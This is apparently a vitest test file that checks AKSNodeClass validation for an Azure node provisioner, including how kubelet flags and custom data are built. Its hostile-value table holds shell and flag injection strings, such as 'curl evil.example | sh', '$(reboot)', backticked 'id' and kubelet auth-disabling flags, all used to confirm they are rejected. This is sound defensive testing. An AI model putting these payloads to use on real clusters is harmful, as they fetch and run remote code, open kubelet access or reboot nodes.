// AKSNodeClass values that reach a node are parsed by their type, never pasted: a hostile value in any
// field that reaches the custom data, the AKSNodeConfig or the VM body is reported with its field path,
// and neither the kubelet flag writer nor the VM body makes anything of it; a valid class's custom data,
// decoded as the node reads it, holds every value as one word, JSON-quoted in a base64 payload that no
// shell expands.
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { localClusterSettings } from '../../local/stack/app-settings.js';
import { vmBody } from '../../shared/cloudprovider/vm-body.js';
import { loadSettings } from '../../shared/config/settings.js';
import {
  AKS_NODE_CONFIG_PATH,
  aksKubeletFlags,
  parseNodeCustomData,
} from '../../shared/cloudprovider/azure/decisions/aks-node-config.js';
import {
  decodeCustomData,
  kubeletConfigFlags,
} from '../../shared/cloudprovider/azure/decisions/bootstrap.js';
import {
  desiredNodeClassStatus,
  imageLookups,
} from '../../shared/cloudprovider/azure/decisions/nodeclass-status.js';
import {
  FIELD_RULES,
  NodeClassFieldError,
  isFlagWord,
  nodeClassProblems,
  parseDurationWithin,
  parseKubeletQuantitySize,
  parseSubnetId,
  parseSysctlPattern,
  parseTags,
} from '../../shared/cloudprovider/azure/decisions/nodeclass-validation.js';
import type { AKSNodeClass, NodeClaim } from '../../shared/models/index.js';
import { d2sV5Offering } from '../support/offering.js';
import { exampleNodeConfigInput } from '../support/node-config.js';

const subscriptionId = '00000000-0000-0000-0000-000000000001';
const nodeGroup = 'MC_prod_prod_westus2';
const subnetOf = (vnet: string, subnet: string) =>
  `/subscriptions/${subscriptionId}/resourceGroups/prod-net/providers/Microsoft.Network/virtualNetworks/${vnet}/subnets/${subnet}`;

const settings = loadSettings({
  ...localClusterSettings(subscriptionId, nodeGroup),
  KUBECONFIG: '/dev/null',
  CLUSTER_NAME: 'prod',
  AZURE_SUBSCRIPTION_ID: subscriptionId,
  AZURE_NODE_RESOURCE_GROUP: nodeGroup,
  AZURE_LOCATION: 'westus2',
  AZURE_SUBNET_ID: subnetOf('prod-vnet', 'nodes'),
  NODE_SSH_PUBLIC_KEY: 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHRlc3Q= test',
  BOOTSTRAP_API_SERVER_URL: 'https://prod-dns-abc.hcp.westus2.azmk8s.io:443',
  BOOTSTRAP_CA_CERT: readFileSync(
    join(import.meta.dirname, '..', 'fixtures', 'aks-node-config', 'ca.pem'),
    'utf8',
  ),
  AzureWebJobsStorage: 'UseDevelopmentStorage=true',
});

const offering = d2sV5Offering({ vmSize: 'Standard_D4s_v5', cpu: 4, memoryMiB: 16384 });

const nodeClaim: NodeClaim = {
  apiVersion: 'karpenter.sh/v1',
  kind: 'NodeClaim',
  metadata: { name: 'default-x7k2p', labels: { 'karpenter.sh/nodepool': 'default' } },
  spec: {
    nodeClassRef: { group: 'karpenter.azure.com', kind: 'AKSNodeClass', name: 'default' },
    requirements: [],
  },
};

const image = {
  imageId:
    '/CommunityGalleries/AKSUbuntu-38d80f77-467a-481f-a8d4-09b6d4220bd2/images/2404gen2containerd/versions/202608.20.0',
  osSku: 'Ubuntu2404' as const,
  bootstrapToken: 'abcdef.0123456789abcdef',
};

function classWith(spec: Record<string, unknown>): AKSNodeClass {
  return {
    apiVersion: 'karpenter.azure.com/v1beta1',
    kind: 'AKSNodeClass',
    metadata: { name: 'default', generation: 3 },
    spec: spec as AKSNodeClass['spec'],
  };
}

/** The spec with `value` at `path` (under spec), built from nested objects. */
function specWith(path: string, value: unknown): Record<string, unknown> {
  const parts = path.split('.').slice(1);
  const spec: Record<string, unknown> = {};
  let at = spec;
  for (const part of parts.slice(0, -1)) at = at[part] = {} as Record<string, unknown>;
  at[parts.at(-1) ?? ''] = value;
  return spec;
}

const INJECTION = '--anonymous-auth=true --authorization-mode=AlwaysAllow';

// One row per hostile value: the field it is written into, the value, and what the problem must say.
const HOSTILE: { path: string; value: unknown; says: RegExp }[] = [
  { path: 'spec.kubelet.cpuCFSQuotaPeriod', value: `100ms ${INJECTION}`, says: /is not a duration/ },
  {
    path: 'spec.kubelet.cpuCFSQuotaPeriod',
    value: '100ms\n--read-only-port=10255',
    says: /is not a duration/,
  },
  { path: 'spec.kubelet.cpuCFSQuotaPeriod', value: '2s', says: /not between 1ms and 1s/ },
  { path: 'spec.kubelet.cpuCFSQuotaPeriod', value: '100', says: /missing unit/ },
  { path: 'spec.kubelet.cpuCFSQuotaPeriod', value: '-100ms', says: /not between/ },
  {
    path: 'spec.kubelet.allowedUnsafeSysctls',
    value: ['net.core.somaxconn', `net.ipv4.tcp_syncookies ${INJECTION}`],
    says: /item 1: .* is not a sysctl name/,
  },
  { path: 'spec.kubelet.allowedUnsafeSysctls', value: ['net.$(curl evil.example)'], says: /not a sysctl/ },
  { path: 'spec.kubelet.allowedUnsafeSysctls', value: ['kernel.panic'], says: /not a namespaced sysctl/ },
  { path: 'spec.kubelet.allowedUnsafeSysctls', value: ['kernel.*'], says: /not a namespaced sysctl/ },
  { path: 'spec.kubelet.allowedUnsafeSysctls', value: 'net.*', says: /not a list/ },
  {
    path: 'spec.kubelet.cpuManagerPolicy',
    value: 'static\n--anonymous-auth=true',
    says: /not one of none, static/,
  },
  { path: 'spec.kubelet.cpuCFSQuota', value: 'true --read-only-port=10255', says: /not true or false/ },
  {
    path: 'spec.kubelet.topologyManagerPolicy',
    value: 'none; curl evil.example | sh',
    says: /not one of restricted, best-effort, none, single-numa-node/,
  },
  { path: 'spec.kubelet.imageGCHighThresholdPercent', value: 101, says: /not between 0 and 100/ },
  { path: 'spec.kubelet.imageGCLowThresholdPercent', value: '`id`', says: /not a whole number/ },
  { path: 'spec.kubelet.imageGCLowThresholdPercent', value: 90, says: /must be greater than/ },
  { path: 'spec.kubelet.containerLogMaxSize', value: '50Mi --v=10', says: /is not a size/ },
  { path: 'spec.kubelet.containerLogMaxSize', value: '10K', says: /kubelet does not read/ },
  { path: 'spec.kubelet.containerLogMaxSize', value: '0Mi', says: /not more than 0/ },
  { path: 'spec.kubelet.containerLogMaxFiles', value: 1, says: /not between 2 and/ },
  { path: 'spec.kubelet.podPidsLimit', value: 1e12, says: /not between -1 and 4194304/ },
  { path: 'spec.kubelet.podPidsLimit', value: 1.5, says: /not a whole number/ },
  { path: 'spec.kubelet.maxPods', value: 251, says: /not between 10 and 250/ },
  { path: 'spec.kubelet.failSwapOn', value: "false' --fail-swap-on='true", says: /not true or false/ },
  { path: 'spec.kubelet', value: `--cpu-cfs-quota-period=1ms ${INJECTION}`, says: /not an object/ },
  { path: 'spec.maxPods', value: `110 ${INJECTION}`, says: /not a whole number/ },
  { path: 'spec.maxPods', value: 5, says: /not between 10 and 250/ },
  { path: 'spec.vnetSubnetID', value: subnetOf('vnet', `nodes ${INJECTION}`), says: /not a subnet ID/ },
  { path: 'spec.vnetSubnetID', value: subnetOf('vnet"; reboot; echo "', 'nodes'), says: /not a subnet ID/ },
  { path: 'spec.vnetSubnetID', value: subnetOf('vnet', 'nodes\u202e'), says: /not a subnet ID/ },
  { path: 'spec.vnetSubnetID', value: subnetOf('vnét', 'nodes'), says: /not a subnet ID/ },
  {
    path: 'spec.vnetSubnetID',
    value: subnetOf('vnet', 'nodes').replace(subscriptionId, 'sub$(id)'),
    says: /not a subnet ID/,
  },
  { path: 'spec.imageFamily', value: 'Ubuntu $(reboot)', says: /not one of Ubuntu, Ubuntu2204/ },
  { path: 'spec.osDiskSizeGB', value: 4096, says: /not between 30 and 2048/ },
  { path: 'spec.tags', value: { team: 'payments\n--x' }, says: /not a tag value/ },
  { path: 'spec.tags', value: { 'a<b': 'x' }, says: /not a tag name/ },
  {
    path: 'spec.tags',
    value: Object.fromEntries(Array.from({ length: 48 }, (_, i) => [`t${i}`, 'v'])),
    says: /48 tags/,
  },
  { path: 'spec.linuxOSConfig.sysctls.vmMaxMapCount', value: 1, says: /not between 65530 and 262144/ },
  {
    path: 'spec.linuxOSConfig.sysctls.kernelCorePattern',
    value: '|/bin/sh',
    says: /not a sysctl AKSNodeClass knows/,
  },
  { path: 'spec.linuxOSConfig.transparentHugePageEnabled', value: 'always\nnever', says: /not one of/ },
  { path: 'spec.localDNS.mode', value: 'Required `id`', says: /not one of Preferred, Required, Disabled/ },
];

describe('a hostile value in any field that reaches the node', () => {
  it.each(HOSTILE.map((row) => [row.path, describeRow(row.value), row] as const))(
    '%s = %s: named, with why',
    (path, _shown, { value, says }) => {
      const problems = nodeClassProblems(classWith(specWith(path, value)));
      expect(problems.map((p) => p.path)).toEqual([path]);
      expect(problems[0]?.problem).toMatch(says);
    },
  );

  it.each(HOSTILE.map((row) => [row.path, describeRow(row.value), row] as const))(
    '%s = %s: no VM body, and no custom data, is made of it',
    (path, _shown, { value }) => {
      const nodeClass = classWith(specWith(path, value));
      let thrown: unknown;
      try {
        vmBody(settings, nodeClaim, offering, undefined, nodeClass, image);
      } catch (error) {
        thrown = error;
      }
      expect(thrown).toBeInstanceOf(NodeClassFieldError);
      expect((thrown as NodeClassFieldError).problems.map((p) => p.path)).toContain(path);
    },
  );

  // The writer itself refuses, whatever let the value through to it: no flag is made of a kubelet field
  // that does not parse.
  it.each(
    HOSTILE.filter(
      (row) => /^spec\.kubelet\.[a-zA-Z]+$/.test(row.path) && !/must be greater/.test(row.says.source),
    )
      .filter((row) => !['spec.kubelet.maxPods', 'spec.kubelet.failSwapOn'].includes(row.path))
      .map((row) => [row.path, describeRow(row.value), row] as const),
  )('%s = %s: the kubelet flag writer refuses it', (path, _shown, { value }) => {
    const kubeletConfig = specWith(path, value).kubelet as AKSNodeClass['spec']['kubelet'];
    expect(() => kubeletConfigFlags(kubeletConfig)).toThrow(NodeClassFieldError);
    expect(() => aksKubeletFlags(exampleNodeConfigInput({ kubeletConfig }))).toThrow(path);
  });

  it('every field the table of rules says reaches the custom data or the VM has a hostile row', () => {
    const tested = new Set(HOSTILE.map((row) => row.path));
    const reaching = FIELD_RULES.filter((rule) => rule.reach !== 'not sent').map((rule) => rule.path);
    expect(reaching.length).toBeGreaterThanOrEqual(16);
    expect(reaching.filter((path) => !tested.has(path))).toEqual([]);
  });

  it('the writer refuses a flag value that would split into words, whichever flag it is', () => {
    const input = exampleNodeConfigInput({
      reservations: { ...exampleNodeConfigInput().reservations, 'max-pods': `110 ${INJECTION}` },
    });
    expect(() => aksKubeletFlags(input)).toThrow(/--max-pods: .* would not stay one word/);
  });

  it('the class turns ValidationSucceeded=False and Ready=False naming the field; fixed, both turn True', () => {
    const hostile = classWith({
      imageFamily: 'Ubuntu',
      kubelet: { cpuCFSQuotaPeriod: `100ms ${INJECTION}` },
    });
    const resolvedFor = (nodeClass: AKSNodeClass) => {
      const lookups = imageLookups(nodeClass, '1.34.4');
      if ('problem' in lookups) throw new Error(lookups.problem);
      return lookups.map((lookup) => ({
        lookup,
        imageId: `/CommunityGalleries/g/images/${lookup.definition}/versions/1`,
      }));
    };
    const now = new Date('2026-09-01T00:00:00Z');
    const bad = desiredNodeClassStatus({
      nodeClass: hostile,
      kubernetesVersion: '1.34.4',
      resolved: resolvedFor(hostile),
      now,
    });
    const byType = new Map(bad.conditions.map((c) => [c.type, c]));
    expect(byType.get('ImagesReady')?.status).toBe('True');
    expect(byType.get('ValidationSucceeded')).toMatchObject({
      status: 'False',
      reason: 'InvalidFieldValue',
      observedGeneration: 3,
      message: expect.stringMatching(/^spec\.kubelet\.cpuCFSQuotaPeriod: "100ms --anonymous-auth=true/),
    });
    expect(byType.get('Ready')).toMatchObject({
      status: 'False',
      reason: 'UnhealthyDependents',
      message: expect.stringMatching(/^ValidationSucceeded=False: spec\.kubelet\.cpuCFSQuotaPeriod: /),
    });

    const fixed = {
      ...hostile,
      spec: { imageFamily: 'Ubuntu' as const, kubelet: { cpuCFSQuotaPeriod: '100ms' } },
      status: { conditions: bad.conditions },
    };
    const good = desiredNodeClassStatus({
      nodeClass: fixed,
      kubernetesVersion: '1.34.4',
      resolved: resolvedFor(fixed),
      now,
    });
    const after = new Map(good.conditions.map((c) => [c.type, c]));
    expect(after.get('ValidationSucceeded')).toMatchObject({ status: 'True', reason: 'ValidationSucceeded' });
    expect(after.get('Ready')).toMatchObject({ status: 'True', reason: 'Ready' });
  });
});

function describeRow(value: unknown): string {
  const text = JSON.stringify(value) ?? String(value);
  return text.length > 60 ? `${text.slice(0, 57)}...` : text;
}

describe('each field type parses what kubelet and Azure accept', () => {
  it.each([
    ['100ms', '100ms'],
    ['1ms', '1ms'],
    ['1s', '1s'],
    ['0.5s', '0.5s'],
    ['1500us', '1500us'],
    ['1500µs', '1500us'],
    ['+250ms', '+250ms'],
  ])('duration %s → %s', (text, written) => {
    expect(parseDurationWithin(1, 1000)(text)).toEqual({ value: written });
  });

  it.each([
    ['net.core.somaxconn', 'net.core.somaxconn'],
    ['net.*', 'net.*'],
    ['kernel.msg*', 'kernel.msg*'],
    ['kernel.shm_rmid_forced', 'kernel.shm_rmid_forced'],
    ['kernel.sem', 'kernel.sem'],
    ['fs.mqueue.*', 'fs.mqueue.*'],
    ['net/ipv4/conf/eth0.100/forwarding', 'net.ipv4.conf.eth0/100.forwarding'],
  ])('sysctl %s → %s', (text, written) => {
    expect(parseSysctlPattern(text)).toEqual({ value: written });
  });

  it.each([
    'NET.core',
    'net..core',
    'net.core.',
    '.net',
    'net.core-',
    'net.co*re',
    'kernel.semx',
    'x'.repeat(254),
  ])('sysctl %s is refused', (text) => {
    expect(parseSysctlPattern(text)).toHaveProperty('problem');
  });

  it.each(['50Mi', '1Gi', '100M', '2G', '1Ki'])('log size %s', (text) => {
    expect(parseKubeletQuantitySize(text)).toEqual({ value: text });
  });

  it('a subnet ID by Azure naming rules, case-insensitive in its fixed parts', () => {
    expect(
      parseSubnetId(
        `/subscriptions/${subscriptionId}/resourcegroups/net-rg(1)/providers/microsoft.network/virtualnetworks/v.n-e_t_/subnets/s`,
      ),
    ).toEqual({
      value: { subscriptionId, resourceGroup: 'net-rg(1)', vnetName: 'v.n-e_t_', subnetName: 's' },
    });
    expect(parseSubnetId(subnetOf('v', 'nodes'))).toHaveProperty('problem');
    expect(parseSubnetId(subnetOf('vnet', 'nodes-'))).toHaveProperty('problem');
    expect(parseSubnetId(subnetOf('vnet', 's'.repeat(81)))).toHaveProperty('problem');
  });

  it('tags by Azure rules: any printable text, names without < > % & \\ ? (a / is written as _)', () => {
    expect(parseTags({ team: 'payments', 'cost center': 'a b; c $(x)' })).toHaveProperty('value');
    expect(parseTags({ 'example.com/team': 'payments' })).toHaveProperty('value');
    for (const name of ['a>b', 'a%b', 'a&b', 'a\\b', 'a?b', '', 'x'.repeat(513)])
      expect(parseTags({ [name]: 'v' }), name).toHaveProperty('problem');
    expect(parseTags({ team: 'x'.repeat(257) })).toHaveProperty('problem');
  });

  it('a class with every field set as the CRD allows it is valid', () => {
    expect(nodeClassProblems(fullySpecified)).toEqual([]);
  });
});

const fullySpecified = classWith({
  imageFamily: 'Ubuntu2404',
  osDiskSizeGB: 2048,
  maxPods: 250,
  vnetSubnetID: subnetOf('prod-vnet', 'nodes'),
  tags: { team: 'payments', 'cost-center': '42' },
  kubelet: {
    cpuCFSQuota: false,
    cpuCFSQuotaPeriod: '200ms',
    cpuManagerPolicy: 'static',
    topologyManagerPolicy: 'single-numa-node',
    imageGCHighThresholdPercent: 85,
    imageGCLowThresholdPercent: 80,
    containerLogMaxSize: '100Mi',
    containerLogMaxFiles: 10,
    podPidsLimit: 4096,
    allowedUnsafeSysctls: ['net.core.somaxconn', 'kernel.msg*'],
    failSwapOn: false,
  },
  linuxOSConfig: {
    swapFileSize: '2Gi',
    transparentHugePageEnabled: 'madvise',
    transparentHugePageDefrag: 'defer+madvise',
    sysctls: { vmMaxMapCount: 262144, netIPv4IPLocalPortRange: '32768 60999', netIPv4TCPTwReuse: true },
  },
  security: { encryptionAtHost: true, trustedLaunch: { secureBoot: true, vtpm: true } },
  artifactStreaming: { enabled: true },
  gpu: { mode: 'None' },
  fipsMode: 'Disabled',
  localDNS: {
    mode: 'Preferred',
    kubeDNSOverrides: [
      {
        zone: '.',
        cacheDuration: '1h',
        forwardDestination: 'ClusterCoreDNS',
        forwardPolicy: 'Sequential',
        maxConcurrent: 1000,
        protocol: 'PreferUDP',
        queryLogging: 'Error',
        serveStale: 'Verify',
        serveStaleDuration: '1h',
      },
    ],
    vnetDNSOverrides: [],
  },
});

/** Unquoted $KUBELET_FLAGS as a shell (or systemd's ExecStart) splits it: at whitespace. */
const wordsOf = (text: string): string[] => text.split(/[ \t\n]+/).filter((w) => w !== '');

describe("a valid class's custom data, decoded as the node reads it", () => {
  const vm = vmBody(settings, nodeClaim, offering, undefined, fullySpecified, image);
  const text = decodeCustomData(vm.osProfile?.customData ?? '');
  const config = parseNodeCustomData(text);
  const flags = config.kubelet_config.kubelet_flags;

  it('carries each kubelet value of the class as its own flag, one word each', () => {
    expect(flags).toMatchObject({
      '--cpu-cfs-quota': 'false',
      '--cpu-cfs-quota-period': '200ms',
      '--cpu-manager-policy': 'static',
      '--topology-manager-policy': 'single-numa-node',
      '--image-gc-high-threshold': '85',
      '--image-gc-low-threshold': '80',
      '--container-log-max-size': '100Mi',
      '--container-log-max-files': '10',
      '--pod-max-pids': '4096',
      '--allowed-unsafe-sysctls': 'net.core.somaxconn,kernel.msg*',
      '--max-pods': '250',
    });
    for (const [name, value] of Object.entries(flags))
      expect(isFlagWord(value), `${name}=${value}`).toBe(true);
    // As the image builds KUBELET_FLAGS: "--name=value" joined by spaces, expanded unquoted.
    const joined = Object.entries(flags)
      .map(([name, value]) => `${name}=${value}`)
      .join(' ');
    expect(wordsOf(joined)).toEqual(Object.entries(flags).map(([name, value]) => `${name}=${value}`));
  });

  it('holds the subnet names the class names, JSON-quoted', () => {
    expect(config.cluster_config.cluster_network_config).toMatchObject({
      vnet_name: 'prod-vnet',
      vnet_resource_group: 'prod-net',
      subnet: 'nodes',
    });
  });

  it('puts no class value in a shell line: the document is base64 in a heredoc whose delimiter is quoted', () => {
    const boothook = text.slice(
      text.indexOf('#cloud-boothook'),
      text.indexOf('--aks-node-config-boundary', text.indexOf('#cloud-boothook')),
    );
    const lines = boothook.split(/\r?\n/);
    const start = lines.indexOf(`cat <<'EOF' | base64 -d >${AKS_NODE_CONFIG_PATH}`);
    const end = lines.indexOf('EOF', start + 1);
    expect(start).toBeGreaterThan(0);
    expect(end).toBeGreaterThan(start);
    for (const line of lines.slice(start + 1, end)) expect(line).toMatch(/^[A-Za-z0-9+/=]*$/);
    const shell = [...lines.slice(0, start + 1), ...lines.slice(end)].join('\n');
    for (const value of ['200ms', 'single-numa-node', 'net.core.somaxconn', 'prod-vnet', '100Mi', '4096'])
      expect(shell).not.toContain(value);
    // And the JSON document quotes each value as a string.
    const json = Buffer.from(lines.slice(start + 1, end).join(''), 'base64').toString('utf8');
    expect(json).toContain('"--cpu-cfs-quota-period": "200ms"');
    expect(json).toContain('"--allowed-unsafe-sysctls": "net.core.somaxconn,kernel.msg*"');
  });
});
